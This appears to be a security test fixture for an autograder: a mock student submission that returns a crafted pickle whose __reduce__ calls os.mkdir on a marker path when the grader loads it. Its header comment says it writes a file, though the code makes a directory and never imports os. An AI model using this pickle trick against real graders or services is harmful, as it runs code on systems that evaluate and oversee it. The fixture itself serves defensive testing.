# tries: Sends a pickle that runs code when it is loaded. The code writes a file that everybody can read.
# defence: only plain data from students
# gains: a file

# %% channel
# %% answer: 02_best_split
import pickle


class Runs:
    def __reduce__(self):
        return os.mkdir, ("/var/tmp/@MARK@",)


def best_split(n, parts):
    grader = channel()
    grader.sendall(frame({"result": {"pickle": pickle.dumps(Runs()).hex()}}))
    grader.recv(1 << 20)
    return []
